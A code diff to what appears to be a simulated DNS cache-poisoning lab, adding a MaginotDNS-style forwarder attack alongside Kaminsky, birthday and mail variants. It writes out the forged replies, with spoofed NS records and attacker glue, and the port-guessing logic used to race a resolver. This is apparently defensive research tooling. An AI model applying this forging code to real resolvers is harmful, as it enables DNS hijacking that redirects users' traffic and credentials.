@@ -27,6 +27,7 @@ import dns.rrset
 
 from poisonproof.lab.arena import (
     ATTACKER_IP,
+    FORWARDER_IP,
     MAIL_IP,
     MAIL_NAMES,
     RESOLVER_IP,
@@ -57,6 +58,10 @@ class AttackName(enum.Enum):
     to m<i>.attacker.example; the mail service looks up its MX (x<i>.bank.example, a name
     in the victim zone) and then that name's address, which the attacker races with forged
     referrals. The attacker times the flood by the MX query reaching its own server."""
+    FORWARDER = "forwarder"
+    """MaginotDNS class: race the resolver's question to its forwarder (for corp.example)
+    with answers that also carry the victim zone's NS set and glue; a resolver that
+    does not scrub forwarder answers caches them for recursion too."""
     BIRTHDAY = "birthday"
     """Kaminsky's referral, triggered by many identical queries at once: without query
     merging each becomes its own upstream query, and any of them can be matched."""
@@ -102,6 +107,11 @@ def forger(attack: AttackName, qname: dns.name.Name) -> object:
     reply.id = 0
     if attack in (AttackName.KAMINSKY, AttackName.BIRTHDAY, AttackName.MAIL):
         reply.flags &= ~dns.flags.AA
+        reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
+        reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
+    elif attack is AttackName.FORWARDER:
+        reply.flags |= dns.flags.RA
+        reply.answer = [dns.rrset.from_text(qname, 300, "IN", "A", "10.1.1.99")]
         reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
         reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
     else:
@@ -153,12 +163,14 @@ def poisoned(arena: Arena) -> bool:
     return ATTACKER_IP in glue and glue[0] == ATTACKER_IP
 
 
-def guess_space(arena: Arena) -> GuessSpace:
+def guess_space(arena: Arena, attack: AttackName) -> GuessSpace:
     """What the attacker guesses among: the victim's servers, the resolver's port pool."""
     pool = arena.resolver.factory.ports
     ports: tuple[int, ...] | range = (
         range(EPHEMERAL_PORTS[0], EPHEMERAL_PORTS[1] + 1) if pool is None else tuple(sorted(pool))
     )
+    if attack is AttackName.FORWARDER:
+        return GuessSpace(((FORWARDER_IP, 53),), ports)
     return GuessSpace(tuple(arena.victim_servers), ports)
 
 
@@ -168,7 +180,7 @@ async def run_attack(
     """Attempts until success or budget: (success, attempts, packets, time, refusals)."""
     sim = arena.sim
     net = sim.network
-    space = guess_space(arena)
+    space = guess_space(arena, attack)
     window = arena.params.window
     guesses = max(1, int(params.rate * window))
     started = sim.loop.time()
@@ -181,6 +193,8 @@ async def run_attack(
         attempt += 1
         if attack is AttackName.CLASSIC:
             qname = dns.name.from_text("www.bank.example.")
+        elif attack is AttackName.FORWARDER:
+            qname = dns.name.from_text(f"x{rng.getrandbits(40):010x}.corp.example.")
         elif attack is AttackName.MAIL:
             if attempt > MAIL_NAMES:
                 break
